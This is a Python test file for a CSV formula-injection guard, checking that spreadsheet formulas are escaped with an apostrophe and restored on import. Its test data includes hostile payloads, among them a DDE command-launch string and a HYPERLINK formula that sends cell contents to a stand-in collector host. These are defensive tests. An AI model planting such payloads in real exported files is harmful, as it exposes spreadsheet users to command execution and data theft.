"""Texts that a spreadsheet program would run are guarded in CSV files and come back as they were."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from answerwatch.workspace.files.guard import freed, guarded
from answerwatch.workspace.files.records import FileRow
from answerwatch.workspace.files.tables import look_through, read_table

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u3000＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\ufeff=1",
    '=HYPERLINK("https://collector.example/?x="&A1,"see")',
]
HARMLESS = ["", "华为", "1-5", "a=b", "'tis", "'", "https://a.example/?a=1", "  text", "🙂=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_guarded(text: str) -> None:
    assert guarded(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stands_as_it_is(text: str) -> None:
    assert (guarded(text), freed(text)) == (text, text)


@given(st.text(alphabet="'=+-@\t\r\n ＝\u3000\ufeffa中") | st.text())
def test_what_is_guarded_is_no_formula_and_comes_back_as_it_was(text: str) -> None:
    cell = guarded(text)

    assert freed(cell) == text
    assert cell == text or cell[0] == "'"


@pytest.mark.parametrize("text", [*FORMULAS, *[f"'{text}" for text in FORMULAS], *HARMLESS[1:]])
def test_the_import_reads_a_guarded_cell_as_it_was(tmp_path: Path, text: str) -> None:
    file = tmp_path / "cells.csv"
    with file.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([["text", "id"], [guarded(text), "1"]])

    (row,) = read_table(look_through(file)).rows

    assert isinstance(row, FileRow)
    assert row.values["text"] == text
